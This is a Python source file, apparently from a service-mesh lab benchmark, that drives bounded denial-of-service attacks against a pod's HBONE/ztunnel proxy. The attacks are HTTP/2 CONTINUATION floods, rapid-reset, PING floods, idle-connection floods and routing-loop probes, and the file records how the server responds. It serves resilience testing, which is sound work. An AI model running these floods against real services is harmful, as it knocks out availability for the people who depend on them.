"""The attacker: one attack against one pod, run inside a lab pod's netns (`ip netns exec`), printing
one JSON line with what it saw. Standard library only, besides `hpack` to read a `:status`.

    attacker.py loop-plain   --target 10.244.1.2
    attacker.py loop-hbone   --target 10.244.1.2 --certs DIR
    attacker.py continuation --target 10.244.1.2 --certs DIR --count 100000
    attacker.py rapid-reset  --target 10.244.1.2 --certs DIR --count 50000 --app-port 9000
    attacker.py ping-flood   --target 10.244.1.2 --certs DIR --count 5000000 --seconds 30
    attacker.py plain-flood  --target 10.244.1.2 --count 8000 --hold 5 --app-port 9100
    attacker.py probe        --target 10.244.1.3 --app-port 9000

Every attack is bounded in count (each `--count` has a maximum) and in time (`--seconds`, and each
socket operation's timeout); the attacker holds nothing once it exits.
"""

from __future__ import annotations

import argparse
import json
import random
import resource
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))  # bench/: the `attacks` package, the soak's echo protocol

from attacks import frames  # noqa: E402

OUTBOUND_PORT, HBONE_PORT = 15001, 15008
# The scale for each attack, and the most the attacker accepts: at most a few MB written.
MAX_CONTINUATION = 200_000  # 1.8 MB
MAX_RESETS = 100_000  # 5.5 MB
MAX_PINGS = 10_000_000  # 170 MB, sent in PING_BATCH pieces while the peer takes them
MAX_PLAIN_CONNECTIONS = 10_000
MAX_SECONDS = 60.0
# One socket operation (connect, a handshake, one send or receive) that takes longer counts as the
# peer not answering; the lab's round trips take well under a millisecond.
IO_TIMEOUT_S = 5.0
# Connecting in the plaintext flood: a connection the peer never accepts (a full backlog) is given up
# after this long, so 8,000 connections cannot take 8,000 x IO_TIMEOUT_S.
CONNECT_TIMEOUT_S = 2.0
# PINGs per write in the flood, at most (64 KiB of frames): the attacker never holds 85 MB of frames
# at once. `--batch` writes fewer at a time, below what the server may answer from one read.
PING_BATCH = 3855
# The longest pause between two writes of the PING flood: it still ends within its --seconds.
MAX_PAUSE_S = 1.0
# Bytes read back after an attack, at most (the answers to a PING flood are PING ACKs, 17 bytes each).
MAX_READ_BACK = 64 * 1024 * 1024
# Bytes per write of a one-shot attack: one TLS record, so a write cut short by the server's close
# tells how far the attack got to within 16 KiB.
SEND_CHUNK = 16 * 1024
# File descriptors above the flood's connection count: the interpreter's own and the reader's.
FD_MARGIN = 64


def now() -> float:
    return round(time.time(), 3)


def hbone_connect(target: str, certs: Path) -> ssl.SSLSocket:
    """mTLS 1.3 to the target pod's 15008 with the mesh certificate in `certs` (as `ambient ca request`
    writes it), ALPN h2; the server's chain is checked against the mesh root, not its SPIFFE ID."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.minimum_version = context.maximum_version = ssl.TLSVersion.TLSv1_3
    context.check_hostname = False
    context.load_verify_locations(certs / "root-cert.pem")
    context.load_cert_chain(certs / "cert-chain.pem", certs / "key.pem")
    context.set_alpn_protocols(["h2"])
    raw = socket.create_connection((target, HBONE_PORT), timeout=IO_TIMEOUT_S)
    return context.wrap_socket(raw, server_hostname=target)


class Answers:
    """What the server sent back, read by a thread until EOF, a reset or `deadline` (time.monotonic)."""

    def __init__(self, sock: socket.socket, deadline: float, stop_on: Callable[[Answers], bool] | None = None
                 ) -> None:
        self.sock, self.deadline, self.stop_on = sock, deadline, stop_on
        self.counts: dict[str, int] = {}
        self.goaway: dict | None = None
        self.statuses: dict[int, str] = {}  # stream id -> :status
        self.resets: dict[str, int] = {}  # RST_STREAM by error name
        self.ended: str | None = None  # "eof", "reset", "deadline", "stopped", or an error name
        self.ended_at: float | None = None
        self.bytes = 0
        self._decoder = None
        self.thread = threading.Thread(target=self._run, daemon=True)

    def start(self) -> Answers:
        self.thread.start()
        return self

    def join(self) -> None:
        self.thread.join(max(0.0, self.deadline - time.monotonic()) + IO_TIMEOUT_S)

    def _status(self, block: bytes) -> str:
        import hpack  # only here: the plaintext attacks run without it

        if self._decoder is None:
            self._decoder = hpack.Decoder()
        try:
            headers = dict(self._decoder.decode(block, raw=True))
        except hpack.HPACKError as exc:
            return f"undecodable: {exc}"
        return headers.get(b":status", b"none").decode()

    def _frame(self, f: frames.Frame) -> None:
        name = {frames.HEADERS: "HEADERS", frames.RST_STREAM: "RST_STREAM", frames.SETTINGS: "SETTINGS",
                frames.PING: "PING", frames.GOAWAY: "GOAWAY", frames.WINDOW_UPDATE: "WINDOW_UPDATE",
                frames.DATA: "DATA"}.get(f.kind, f"type {f.kind}")
        self.counts[name] = self.counts.get(name, 0) + 1
        if f.kind == frames.GOAWAY:
            last, code, debug = frames.goaway(f.payload)
            self.goaway = {"code": frames.error_name(code), "last_stream": last, "debug": debug[:200], "at": now()}
        elif f.kind == frames.HEADERS and f.flags & frames.END_HEADERS:
            self.statuses[f.stream_id] = self._status(f.payload)
        elif f.kind == frames.RST_STREAM and len(f.payload) == 4:
            code = frames.error_name(int.from_bytes(f.payload, "big")) or "?"
            self.resets[code] = self.resets.get(code, 0) + 1

    def _run(self) -> None:
        reader = frames.FrameReader()
        try:
            while True:
                left = self.deadline - time.monotonic()
                if left <= 0:
                    self.ended = "deadline"
                    return
                self.sock.settimeout(min(left, IO_TIMEOUT_S))
                try:
                    data = self.sock.recv(256 * 1024)
                except TimeoutError:
                    continue
                if not data:
                    self.ended = "eof"
                    return
                self.bytes += len(data)
                for f in reader.feed(data):
                    self._frame(f)
                if self.stop_on is not None and self.stop_on(self):
                    self.ended = "stopped"
                    return
                if self.bytes >= MAX_READ_BACK:
                    self.ended = "read bound"
                    return
        except ConnectionResetError:
            self.ended = "reset"
        except (OSError, ssl.SSLError) as exc:
            self.ended = type(exc).__name__
        finally:
            self.ended_at = now()

    def summary(self) -> dict:
        return {"connection": self.ended, "connection_ended_at": self.ended_at, "frames": self.counts,
                "goaway": self.goaway,
                "statuses": {str(k): v for k, v in sorted(self.statuses.items())[:10]},
                "status_counts": _tally(self.statuses.values()), "resets": self.resets,
                "bytes_read": self.bytes}


def _tally(values) -> dict[str, int]:
    out: dict[str, int] = {}
    for value in values:
        out[value] = out.get(value, 0) + 1
    return out


def send_all(sock: socket.socket, data: bytes) -> dict:
    """Write `data`; how far it got and how it ended (the server may close mid-write)."""
    started = time.monotonic()
    sock.settimeout(IO_TIMEOUT_S)
    sent, error = 0, None
    view = memoryview(data)
    try:
        while sent < len(data):
            sent += sock.send(view[sent:sent + SEND_CHUNK])
    except (OSError, ssl.SSLError) as exc:
        error = type(exc).__name__
    return {"bytes": len(data), "sent": sent, "error": error, "seconds": round(time.monotonic() - started, 3)}


def h2_attack(args: argparse.Namespace, payload: bytes, stop_on=None) -> dict:
    started = time.monotonic()
    sock = hbone_connect(args.target, args.certs)
    try:
        answers = Answers(sock, started + args.seconds, stop_on).start()
        sent = send_all(sock, payload)
        answers.join()
        return {"sent": sent, **answers.summary(), "seconds": round(time.monotonic() - started, 3)}
    finally:
        sock.close()


def loop_plain(args: argparse.Namespace) -> dict:
    """A plain TCP connection to the pod's own outbound listener, with a request on it."""
    started = time.monotonic()
    try:
        sock = socket.create_connection((args.target, OUTBOUND_PORT), timeout=IO_TIMEOUT_S)
    except ConnectionResetError:
        return {"outcome": "reset", "at": "connect", "seconds": round(time.monotonic() - started, 3)}
    except OSError as exc:
        return {"outcome": f"connect failed: {type(exc).__name__}", "seconds": round(time.monotonic() - started, 3)}
    try:
        sock.sendall(b"GET / HTTP/1.1\r\nHost: loop\r\n\r\n")
        sock.settimeout(min(args.seconds, IO_TIMEOUT_S))
        try:
            data = sock.recv(4096)
            outcome = f"answered: {data[:60]!r}" if data else "closed (EOF)"
        except ConnectionResetError:
            outcome = "reset"
        except TimeoutError:
            outcome = f"open, silent for {min(args.seconds, IO_TIMEOUT_S):g} s"
    except OSError as exc:
        outcome = type(exc).__name__
    finally:
        sock.close()
    return {"outcome": outcome, "seconds": round(time.monotonic() - started, 3)}


def loop_hbone(args: argparse.Namespace) -> dict:
    """An HBONE CONNECT whose :authority is the pod's own outbound listener."""
    authority = f"{args.target}:{OUTBOUND_PORT}"
    payload = frames.opening() + frames.connect_request(authority)
    result = h2_attack(args, payload, stop_on=lambda a: 1 in a.statuses or a.goaway is not None or bool(a.resets))
    return {"authority": authority, **result}


def continuation(args: argparse.Namespace) -> dict:
    payload = frames.opening() + frames.continuation_flood(args.count, f"{args.target}:{args.app_port}")
    return {"count": args.count, **h2_attack(args, payload)}


def rapid_reset(args: argparse.Namespace) -> dict:
    payload = frames.opening() + frames.rapid_resets(args.count, f"{args.target}:{args.app_port}")
    return {"count": args.count, **h2_attack(args, payload)}


def ping_flood(args: argparse.Namespace) -> dict:
    """PINGs written as fast as the server takes them and never a byte read, until `--count` are
    written, the server closes, or `--seconds` pass; then what the server had sent is read back."""
    started = time.monotonic()
    sock = hbone_connect(args.target, args.certs)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 64 * 1024)  # a peer that does not read, soon full
    batch = frames.pings(args.batch)
    sent, outcome = 0, "all sent"
    try:
        sock.settimeout(IO_TIMEOUT_S)
        sock.sendall(frames.opening())
        while sent < args.count:
            if time.monotonic() - started > args.seconds:
                outcome = f"time bound ({args.seconds:g} s)"
                break
            if args.pause:
                time.sleep(args.pause)  # pacing the writes, not a synchronisation
            try:
                sock.sendall(batch)
            except TimeoutError:
                continue  # the server stopped reading; the time bound ends the wait
            except (OSError, ssl.SSLError) as exc:
                outcome = f"server closed: {type(exc).__name__}"
                break
            sent += args.batch
        write_end = time.monotonic()
        answers = Answers(sock, time.monotonic() + IO_TIMEOUT_S * 2)
        answers.thread.run()  # read back in this thread
        return {"batch": args.batch, "pause_s": args.pause, "pings_sent": sent, "bytes_sent": sent * 17,
                "write_outcome": outcome,
                "write_seconds": round(write_end - started, 3), **answers.summary(),
                "seconds": round(time.monotonic() - started, 3)}
    finally:
        sock.close()


def connection_state(sock: socket.socket) -> str:
    """"open", "closed" (FIN), "reset" or "data", without waiting: a socket with a timeout would wait
    that long for data on every open connection before saying so."""
    sock.setblocking(False)
    try:
        data = sock.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT)
    except BlockingIOError:
        return "open"
    except ConnectionResetError:
        return "reset"
    except OSError as exc:
        return type(exc).__name__
    return "data" if data else "closed"


def plain_flood(args: argparse.Namespace) -> dict:
    """`--count` idle plaintext connections to the pod's app port, which capture hands to its ztunnel's
    15006 (a connection to 15006 itself names ztunnel's own port as its destination and is reset at
    once), held `--hold` s, then closed."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = args.count + FD_MARGIN
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (max(wanted, soft), max(wanted, hard)))
    started = time.monotonic()
    sockets: list[socket.socket] = []
    errors: dict[str, int] = {}
    try:
        for _ in range(args.count):
            if time.monotonic() - started > args.seconds:
                errors["time bound"] = errors.get("time bound", 0) + 1
                break
            try:
                sockets.append(socket.create_connection((args.target, args.app_port),
                                                        timeout=CONNECT_TIMEOUT_S))
            except OSError as exc:
                errors[type(exc).__name__] = errors.get(type(exc).__name__, 0) + 1
            if (len(sockets) + sum(errors.values())) % 1000 == 0:
                print(f"plain-flood: {len(sockets)} connected, {errors} after {time.monotonic() - started:.1f} s",
                      file=sys.stderr, flush=True)
        opened_s = time.monotonic() - started
        print(json.dumps({"holding": len(sockets), "at": now()}), flush=True)
        time.sleep(args.hold)  # the harness samples ztunnel meanwhile; nothing to wait for but time
        states = _tally(connection_state(s) for s in sockets)
        return {"count": args.count, "connected": len(sockets), "connect_errors": errors,
                "open_seconds": round(opened_s, 3), "after_hold": states, "hold_s": args.hold,
                "seconds": round(time.monotonic() - started, 3)}
    finally:
        for s in sockets:
            s.close()


def probe(args: argparse.Namespace) -> dict:
    """One echo exchange (the soak's protocol) with the app: is this client let through?"""
    from soak.load import connect, exchange, failure_kind

    try:
        with connect(args.target, args.app_port) as sock:
            problem = exchange(sock, random.Random(), 64)
    except (OSError, TimeoutError) as exc:
        return {"served": False, "error": failure_kind(exc)}
    return {"served": problem is None, "error": problem}


ATTACKS: dict[str, Callable[[argparse.Namespace], dict]] = {
    "loop-plain": loop_plain, "loop-hbone": loop_hbone, "continuation": continuation,
    "rapid-reset": rapid_reset, "ping-flood": ping_flood, "plain-flood": plain_flood,
    "probe": probe,
}
COUNT_BOUNDS = {"continuation": MAX_CONTINUATION, "rapid-reset": MAX_RESETS, "ping-flood": MAX_PINGS,
                "plain-flood": MAX_PLAIN_CONNECTIONS}


def parse_args(argv: list[str] | None = None) -> argparse.Namespace:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--target", required=True, help="the target pod's IP")
    parser.add_argument("--certs", type=Path, help="key.pem, cert-chain.pem, root-cert.pem (HBONE attacks)")
    parser.add_argument("--count", type=int, default=1)
    parser.add_argument("--app-port", type=int, default=9000)
    parser.add_argument("--seconds", type=float, default=15.0)
    parser.add_argument("--hold", type=float, default=5.0)
    parser.add_argument("--batch", type=int, default=PING_BATCH, help="PINGs per write (ping-flood)")
    parser.add_argument("--pause", type=float, default=0.0, help="seconds between writes (ping-flood)")
    args = parser.parse_args(argv)
    bound = COUNT_BOUNDS.get(args.attack, 1)
    if not 1 <= args.count <= bound:
        parser.error(f"--count for {args.attack} must be 1-{bound}, not {args.count}")
    if not 1 <= args.batch <= PING_BATCH or not 0 <= args.pause <= MAX_PAUSE_S:
        parser.error(f"--batch must be 1-{PING_BATCH} and --pause 0-{MAX_PAUSE_S:g} s")
    if not 0 < args.seconds <= MAX_SECONDS or not 0 <= args.hold <= MAX_SECONDS:
        parser.error(f"--seconds and --hold must be within {MAX_SECONDS:g} s")
    if args.attack in ("loop-hbone", "continuation", "rapid-reset", "ping-flood") and args.certs is None:
        parser.error(f"{args.attack} needs --certs (an HBONE client holds a mesh certificate)")
    return args


def main(argv: list[str] | None = None) -> int:
    args = parse_args(argv)
    started = now()
    try:
        result = ATTACKS[args.attack](args)
    except (OSError, ssl.SSLError) as exc:
        result = {"error": f"{type(exc).__name__}: {exc}"}
    print(json.dumps({"attack": args.attack, "started": started, "ended": now(), **result}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
